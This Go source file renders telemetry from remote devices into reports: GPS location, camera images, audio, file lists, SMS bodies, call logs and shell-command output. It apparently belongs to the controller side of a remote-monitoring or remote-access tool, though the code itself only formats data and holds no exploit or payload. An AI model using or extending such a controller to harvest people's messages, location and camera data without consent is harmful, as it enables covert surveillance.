package report

import (
	"bytes"
	"encoding/json"
	"fmt"
	"sort"
	"strings"

	"github.com/dustin/go-humanize"

	"github.com/rmon-protocol/rmon-go/pkg/wire"
)

// Telemetry payload types.
const (
	TypeLocation     = "location"
	TypeCamera       = "camera"
	TypeAudio        = "audio"
	TypeFiles        = "files"
	TypeSMS          = "sms"
	TypeCalls        = "calls"
	TypeShellCommand = "shell_command"
	TypeSystemInfo   = "system_info"
	TypeUnknown      = "unknown"
)

// Origin describes where a telemetry push came from.
type Origin struct {
	RemoteAddr string
	Size       int
}

type telemetryFunc func(r *Renderer, rep *Report, req *wire.TelemetryRequest)

var telemetryHandlers = map[string]telemetryFunc{
	TypeLocation:     telemetryLocation,
	TypeCamera:       telemetryCamera,
	TypeAudio:        telemetryAudio,
	TypeFiles:        telemetryFiles,
	TypeSMS:          telemetrySMS,
	TypeCalls:        telemetryCalls,
	TypeShellCommand: telemetryShell,
	TypeSystemInfo:   telemetrySystemInfo,
}

// TelemetryTypes returns the payload types with a dedicated handler.
func TelemetryTypes() []string {
	types := make([]string, 0, len(telemetryHandlers))
	for t := range telemetryHandlers {
		types = append(types, t)
	}
	sort.Strings(types)
	return types
}

// Telemetry routes a push to its type handler and writes the report.
// The returned error is non-nil only when the report could not be written.
func (r *Renderer) Telemetry(req *wire.TelemetryRequest, origin Origin) (*Report, error) {
	rep := r.BuildTelemetry(req, origin)
	return rep, r.emit(rep)
}

// BuildTelemetry renders a push without writing it.
func (r *Renderer) BuildTelemetry(req *wire.TelemetryRequest, origin Origin) *Report {
	typ := req.Type
	if typ == "" {
		typ = TypeUnknown
	}
	deviceID := req.DeviceID
	if deviceID == "" {
		deviceID = unknown
	}
	ts := req.Timestamp
	if ts == 0 {
		ts = r.clock().Unix()
	}

	rep := &Report{Title: "Telemetry: " + typ}
	if origin.RemoteAddr != "" {
		rep.addf("From: %s", origin.RemoteAddr)
	}
	rep.addf("Device ID: %s", deviceID)
	rep.addf("Time: %s", r.formatTime(ts))
	if origin.Size > 0 {
		rep.addf("Payload size: %s", humanize.Bytes(uint64(origin.Size)))
	}

	if req.Data == nil {
		req.Data = wire.Fields{}
	}
	if fn, ok := telemetryHandlers[typ]; ok {
		fn(r, rep, req)
	} else {
		telemetryUnknown(rep, req)
	}
	return rep
}

func telemetryLocation(_ *Renderer, rep *Report, req *wire.TelemetryRequest) {
	lat := req.Data.String("latitude", "0")
	lon := req.Data.String("longitude", "0")
	rep.addf("Latitude: %s", lat)
	rep.addf("Longitude: %s", lon)
	rep.addf("Accuracy: %s m", req.Data.String("accuracy", "0"))
	rep.addf("Map: %s", MapsURL(lat, lon))
}

func telemetryCamera(r *Renderer, rep *Report, req *wire.TelemetryRequest) {
	encoded := req.Data.String("image", "")
	rep.addf("Image size: %d characters (base64)", len(encoded))
	if encoded == "" {
		return
	}
	r.storeImage(rep, "camera", encoded)
}

func telemetryAudio(_ *Renderer, rep *Report, req *wire.TelemetryRequest) {
	rep.addf("Duration: %s s", req.Data.String("duration", "0"))
}

func telemetryFiles(_ *Renderer, rep *Report, req *wire.TelemetryRequest) {
	files := req.Data.List("files")
	rep.addf("Files: %d", len(files))
	for _, f := range firstN(files, MaxListedFiles) {
		size, _ := wire.ToInt64(f["size"])
		if size < 0 {
			size = 0
		}
		rep.addf("- %s (%s)", f.String("name", unknown), humanize.Bytes(uint64(size)))
	}
	moreLine(rep, len(files), MaxListedFiles)
}

func telemetrySMS(_ *Renderer, rep *Report, req *wire.TelemetryRequest) {
	messages := req.Data.List("messages")
	rep.addf("Messages: %d", len(messages))
	for _, m := range firstN(messages, MaxListedMessages) {
		rep.addf("- %s: %s", m.String("address", unknown), Preview(m.String("body", ""), MessagePreviewLen))
	}
	moreLine(rep, len(messages), MaxListedMessages)
}

func telemetryCalls(_ *Renderer, rep *Report, req *wire.TelemetryRequest) {
	calls := req.Data.List("calls")
	rep.addf("Calls: %d", len(calls))
	for _, c := range firstN(calls, MaxListedCalls) {
		rep.addf("- %s (%s, %s s)", c.String("number", unknown), c.String("type", unknown), c.String("duration", "0"))
	}
	moreLine(rep, len(calls), MaxListedCalls)
}

func telemetryShell(_ *Renderer, rep *Report, req *wire.TelemetryRequest) {
	output := req.Data.String("output", "")
	rep.addf("Command: %s", req.Data.String("command", ""))
	rep.addf("Exit code: %d", req.Data.Int("exit_code", -1))
	rep.addf("Output size: %d characters", len(output))
	if output == "" {
		return
	}

	lines := strings.Split(output, "\n")
	shown := lines
	if len(shown) > MaxShellLines {
		shown = shown[:MaxShellLines]
	}
	for _, l := range shown {
		rep.addf("> %s", l)
	}
	if len(lines) > MaxShellLines {
		rep.addf("... and %d more lines", len(lines)-MaxShellLines)
	}
}

func telemetrySystemInfo(_ *Renderer, rep *Report, req *wire.TelemetryRequest) {
	renderAllKeys(rep, req.Data)
}

func telemetryUnknown(rep *Report, req *wire.TelemetryRequest) {
	rep.addf("Unknown data type: %s", req.Type)
	raw, err := rawPayload(req)
	if err != nil {
		rep.problem(fmt.Errorf("%w: %w", ErrDecode, err))
		return
	}
	rep.addf("Raw payload:")
	rep.Lines = append(rep.Lines, strings.Split(raw, "\n")...)
}

// rawPayload pretty-prints the request as the agent sent it. Requests built
// in code have no raw body and are marshaled instead.
func rawPayload(req *wire.TelemetryRequest) (string, error) {
	if len(req.Raw) == 0 {
		out, err := json.MarshalIndent(req, "", "  ")
		return string(out), err
	}
	var buf bytes.Buffer
	if err := json.Indent(&buf, req.Raw, "", "  "); err != nil {
		return "", err
	}
	return buf.String(), nil
}

// Preview shortens s to at most n runes, appending "..." when cut.
func Preview(s string, n int) string {
	runes := []rune(s)
	if len(runes) <= n {
		return s
	}
	return string(runes[:n]) + "..."
}

func sortedKeys(f wire.Fields) []string {
	keys := make([]string, 0, len(f))
	for k := range f {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}
